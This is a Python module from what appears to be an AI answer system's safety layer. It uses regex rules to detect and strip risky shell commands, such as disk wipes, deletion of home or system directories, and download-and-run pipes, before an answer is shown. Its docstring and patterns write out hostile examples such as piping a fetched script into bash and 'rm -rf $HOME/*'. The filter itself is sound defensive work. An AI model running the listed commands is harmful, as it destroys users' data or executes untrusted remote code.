"""Is a shell command safe to show a user? The one judgement the verifier (and through it the CLI,
the web UI and Slack) and the renderers use.

    risks("Run `curl -fsSL http://x/i.sh | bash` first")   -> [Risk(kind="download_run", ...)]
    is_dangerous("rm -rf $HOME/*")                           -> True   (never shown)
    acts("pip install sglang-turbo-fix")                     -> True   (shown only if a source has it)

Two levels:
- dangerous (`Risk.always`): wipes a disk or the system, deletes a home or system directory, or
  runs code fetched from the network. Never shown, whatever a source says.
- acting: installs, downloads, executes or deletes something. Shown only when the retrieved
  sources carry the command (the verifier decides that); otherwise removed, not just marked.

A removed command is described by `Risk.description` ("a download-and-run command from an
unverified URL"), never repeated: the text a user could copy is exactly what must not reach them.
Queries of the user's own server (`curl http://127.0.0.1:30000/health`) are not downloads.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

DESCRIPTIONS = {
    "wipe": "a destructive command that wipes a disk or the system",
    "delete_system": "a destructive command that deletes a home or system directory",
    "download_run": "a download-and-run command from an unverified URL",
    "delete": "a destructive command that deletes files",
    "install": "a package install",
    "install_index": "a package install from an unverified package index",
    "download": "a download from an unverified URL",
    "execute": "a command that runs a script or code",
    "reboot": "a command that reboots or shuts down the machine",
}
ALWAYS = frozenset({"wipe", "delete_system", "download_run"})

_I = re.I
# a shell interpreter, optionally behind sudo / env
_SHELL = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|da|k|fi|tc|c)?sh\b"
_INTERP = (r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:/(?:usr/)?bin/)?"
           r"(?:(?:ba|z|da|k|fi|tc|c)?sh|python[\d.]*|perl|ruby|node|php|lua)\b")
_FETCH = r"\b(?:curl|wget|aria2c|lwp-download)\b"
_URL_RE = re.compile(r"(?:https?|ftp)://([^\s/:'\"`]+)")
_LOOPBACK_HOSTS = ("localhost", "127.0.0.1", "0.0.0.0", "[::1]", "$host", "${host}")
_RM = r"\b(?:sudo\s+(?:-\S+\s+)*)?rm\s+(?:-{1,2}[\w-]+\s+)*"
# what deleting takes a machine or a user's files with it
_HOME = r"(?:~|\$HOME|\$\{HOME\}|/home/[^/\s]+|/root)"
_SYSTEM_DIRS = r"/(?:bin|boot|dev|etc|home|lib|lib32|lib64|opt|proc|root|sbin|srv|sys|usr|var|mnt|media|snap)\b"
_WHOLE = r"(?:/|/\*|\*|\.|\.\.|\./\*|~/\*|" + _HOME + r"/?\*?|" + _HOME + r"/\.\*)"

_RULES: list[tuple[str, re.Pattern]] = [
    # ---- never shown ----
    ("wipe", re.compile(r"\bmkfs(?:\.\w+)?\b|\bwipefs\b|\bshred\b[^\n]*/dev/|\bdd\b[^\n]*\bof=/dev/"
                        r"|>\s*/dev/(?:sd|nvme|hd|vd|xvd|mapper/)\w*|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"
                        r"|\bchmod\s+(?:-\w+\s+)*-R\s+(?:0?777|a\+rwx)\s+/(?:\s|$|[`'\"])"
                        r"|\bchown\s+(?:-\w+\s+)*-R\s+\S+\s+/(?:\s|$|[`'\"])"
                        r"|\b(?:fdisk|sfdisk|parted)\s+/dev/|>\s*/proc/sysrq-trigger|\bkill\s+-9\s+-1\b"
                        r"|\bcrontab\s+-r\b", _I)),
    ("delete_system", re.compile(
        _RM + r"(?:--no-preserve-root\s+)?(?:\S+\s+)*?['\"]?(?:" + _WHOLE + r"|" + _SYSTEM_DIRS
        + r"(?:/\S*)?|" + _HOME + r"/(?:\*|\.\*|[^/\s.][^/\s]*/?\*?)?)['\"]?(?=[\s`'\";|&)]|$)"
        r"|\bfind\s+(?:/|~|\$HOME)\S*\s[^\n]*-(?:delete|exec\s+rm)\b", _I)),
    ("download_run", re.compile(
        _FETCH + r"[^|;&\n`]*\|\s*(?:tee\s+\S+\s*\|\s*)?" + _INTERP              # curl ... | sh
        + r"|(?:" + _INTERP + r"|\bsource|(?<![\w.])\.)\s*(?:-\w+\s+)*<\(\s*" + _FETCH   # bash <(curl ...)
        + r"|(?:" + _INTERP + r"\s+-c|\beval|\bexec)\s+[\"']?(?:\$\(|`)\s*" + _FETCH      # sh -c "$(curl ...)"
        + r"|" + _FETCH + r"[^\n`]*?\s(?:-o|-O|--output|--output-document)\s*[\"']?([\w./~$-]+)[\"']?"
          r"[^\n`]*?(?:&&|;|\|\||\n)\s*(?:chmod\s+\S+\s+\S+\s*(?:&&|;)\s*)?"        # curl -o f && bash f
        + r"(?:" + _INTERP + r"\s+(?:-\w+\s+)*\S*|\./|\bsource\s|\.\s|\1(?:\s|$)|/[\w.-]+/[\w./-]+)"
        + r"|" + _FETCH + r"[^\n`]*?\s-O\s+\S+[^\n`]*?(?:&&|;)\s*(?:" + _INTERP + r"|\./)"
        + r"|\b(?:pip[\d.]*|python[\d.]*\s+-m\s+pip|uv\s+pip)\s+install\b[^\n`]*"
          r"(?:--index-url|--extra-index-url|-i|--trusted-host|--find-links|-f)\s*=?\s*['\"]?http://(?!localhost|127\.)"
        + r"|\bpython[\d.]*\s+-c\s+[\"'][^\n]*\burllib\b[^\n]*\bexec\b", _I)),
    # ---- shown only when a source carries the command ----
    ("delete", re.compile(r"\b(?:sudo\s+)?(?:rm|rmdir|unlink|shred)\s+\S|\bfind\s[^\n]*-delete\b"
                          r"|\bdocker\s+(?:rm|rmi|system\s+prune|volume\s+(?:rm|prune)|image\s+prune)\b"
                          r"|\b(?:pip[\d.]*|conda|uv\s+pip)\s+uninstall\b|\bgit\s+clean\s+-\w*f|\btruncate\s+-s\s*0\b", _I)),
    ("install_index", re.compile(r"\b(?:pip[\d.]*|python[\d.]*\s+-m\s+pip|uv\s+pip)\s+install\b[^\n`]*"
                                 r"(?:--index-url|--extra-index-url|\s-i\s|--trusted-host|--find-links|\s-f\s)", _I)),
    ("install", re.compile(r"\b(?:pip[\d.]*|pipx|uv\s+pip|uv|python[\d.]*\s+-m\s+pip|conda|mamba|micromamba"
                           r"|apt(?:-get)?|yum|dnf|zypper|apk|brew|snap|npm|yarn|pnpm|cargo|gem|go)\s+"
                           r"(?:(?:-\S+\s+)*)(?:install|add|get)\b|\bdpkg\s+-i\b|\brpm\s+-[iU]\w*\b"
                           r"|\bsetup\.py\s+(?:install|develop)\b|\bmake\s+install\b|\beasy_install\b", _I)),
    ("download", re.compile(_FETCH + r"[^\n`|;&]*?(?:https?|ftp)://\S+"
                            r"|\bgit\s+clone\b|\b(?:huggingface-cli|hf)\s+download\b|\bdocker\s+pull\b"
                            r"|\bscp\s+\S*:\S*|\brsync\s+[^\n]*\S+:\S*", _I)),
    ("execute", re.compile(_SHELL + r"\s+(?:-\w*c\b|(?!-)[\w./~$-]+\.(?:sh|bash|run)\b|(?!-)\S+\.sh\b)"
                           r"|\bsource\s+(?:[~./$<]|\S+\.(?:sh|bash|env)\b)|(?:^|[;&|`]\s*)\.\s+\S+\.sh\b"
                           r"|\beval\s+[\"'$`]|\bexec\s+(?:[\"'$`/.]|\S+\.sh\b)"
                           r"|\bpython[\d.]*\s+-c\b|\bpython[\d.]*\s+(?!-)[\w./~$-]+\.py\b"
                           r"|(?:^|[`;&|(]\s*|\b(?:run|sudo|exec|then|do|execute)\s+)\./[\w.-]+|\bchmod\s+(?:[ugoa]*\+x|[0-7]?7[0-7][0-7])\s"
                           r"|\b(?:perl|ruby|node|php)\s+-[eEr]\b|\bsudo\s+(?:-\S+\s+)*(?:su|bash|sh|-i|-s)\b", _I)),
    ("reboot", re.compile(r"\b(?:sudo\s+)?(?:shutdown|reboot|halt|poweroff)\b(?:\s+-\w+)*\s*(?:now)?(?=[\s`'\";|&)]|$)"
                          r"|\bsystemctl\s+(?:reboot|poweroff|halt)\b|\binit\s+[06]\b", _I)),
]
_KIND_ORDER = {kind: n for n, (kind, _) in enumerate(_RULES)}


@dataclass(frozen=True)
class Risk:
    kind: str        # a key of DESCRIPTIONS
    command: str     # the command as written (for checks; never shown to a user)

    @property
    def always(self) -> bool:
        """Never shown, whatever a source says."""
        return self.kind in ALWAYS

    @property
    def description(self) -> str:
        return DESCRIPTIONS[self.kind]


def _normalized(text: str) -> str:
    """Line continuations joined and ${IFS}-style tricks undone, so a command reads as a shell
    would run it."""
    text = re.sub(r"\\\r?\n\s*", " ", text)
    text = re.sub(r"\$\{IFS\}|\$IFS\b", " ", text)
    text = re.sub(r"(?<=\w)(?:''|\"\")(?=\w)", "", text)   # r''m -> rm
    return text


_CODE_RE = re.compile(r"```[^\n]*\n(.*?)```|`([^`\n]+)`", re.S)
_STOP_WORDS = frozenset("to and then the for so if with in on which that or as this it first after "
                        "before again but because when until 来 并 然后".split())


def command_span(text: str, start: int, end: int) -> str:
    """The whole command a match belongs to: its code span, or in prose the match and the
    arguments after it (up to a plain word such as "to" or the end of the sentence)."""
    for code in _CODE_RE.finditer(text):
        if code.start() <= start < code.end():
            return (code.group(1) or code.group(2)).strip()
    words = text[end:].split()
    taken = []
    for word in words[:12]:
        bare = word.rstrip(".,;:!?)")
        if bare.lower() in _STOP_WORDS or not bare:
            break
        taken.append(bare)
        if bare != word:
            break
    return (text[start:end] + " " + " ".join(taken)).strip()


def _only_loopback(command: str) -> bool:
    hosts = [h.lower() for h in _URL_RE.findall(command)]
    return bool(hosts) and all(h in _LOOPBACK_HOSTS for h in hosts)


def risks(text: str) -> list[Risk]:
    """Every risky command in a text (prose or code), the most serious kind first."""
    text = _normalized(text)
    found: list[Risk] = []
    for kind, rule in _RULES:
        for match in rule.finditer(text):
            command = command_span(text, match.start(), match.end())
            if kind == "download" and _only_loopback(command):
                continue   # `curl http://127.0.0.1:30000/health` asks the user's own server
            if not any(r.command == command and r.kind in ALWAYS for r in found):
                found.append(Risk(kind, command))
    found.sort(key=lambda r: _KIND_ORDER[r.kind])
    return found


def worst(text: str) -> Risk | None:
    found = risks(text)
    return found[0] if found else None


def is_dangerous(text: str) -> bool:
    """Wipes, deletes a home or system directory, or runs downloaded code: never shown."""
    return any(r.always for r in risks(text))


def acts(text: str) -> bool:
    """Installs, downloads, executes or deletes something (dangerous commands included)."""
    return bool(risks(text))
